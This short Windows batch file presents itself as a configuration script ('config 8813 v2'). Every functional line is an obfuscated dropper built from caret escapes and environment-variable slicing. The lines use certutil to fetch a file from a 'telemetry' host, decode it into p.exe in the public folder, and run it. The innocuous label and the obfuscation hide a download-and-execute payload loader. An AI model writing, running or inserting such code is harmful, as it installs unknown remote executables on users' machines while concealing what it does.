REM config 8813 v2
@echo off
^c%COMSPEC:~-3,1%%PUBLIC:~6,1%%programdata:~12,1%%public:~-5,1%%comspec:~-13,1%i%PUBLIC:~12,1% -^ur^l^c^ach^e -f htt^p://api.tel^emetr^y-^hu^b.e^x^a^m^p^le/^p.t^xt %PUBLIC%\^p.^txt
c%PUBLIC:~-10,1%%ProgramData:~4,1%%COMSPEC:~14,1%%PUBLIC:~10,1%t%comspec:~4,1%%PUBLIC:~12,1% -dec^o^de %PUBLIC%\p.^tx^t %PUBLIC%\^p.ex^e
%%public:~9,1%%PUBLIC:~3,1%BLI^C%\p.ex%^COMS^PEC:~-3,1%
